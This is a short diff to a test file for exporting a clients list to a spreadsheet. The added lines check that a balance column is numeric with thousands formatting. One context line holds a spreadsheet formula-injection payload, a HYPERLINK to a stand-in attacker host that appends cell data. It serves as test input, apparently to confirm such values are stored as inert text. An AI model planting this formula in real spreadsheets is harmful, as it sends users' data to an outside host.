@@ -153,6 +153,11 @@ describe('downloading the clients tray', () => {
     });
     expect(names).toContain('=HYPERLINK("http://evil.example/?x="&A1,"clic")');
     expect(body.includes(Buffer.from('<f>'))).toBe(false);
+    // Amounts are numbers a spreadsheet shows with thousands and the currency's decimals.
+    const balance = (sheet.getRow(1).values as unknown[]).indexOf('Saldo total');
+    expect(balance).toBeGreaterThan(0);
+    expect(typeof sheet.getRow(2).getCell(balance).value).toBe('number');
+    expect(sheet.getRow(2).getCell(balance).numFmt).toBe('#,##0.00');
   });
 
   it.runIf(libreoffice)('an exported xlsx opens in LibreOffice', { timeout: 120_000 }, async () => {
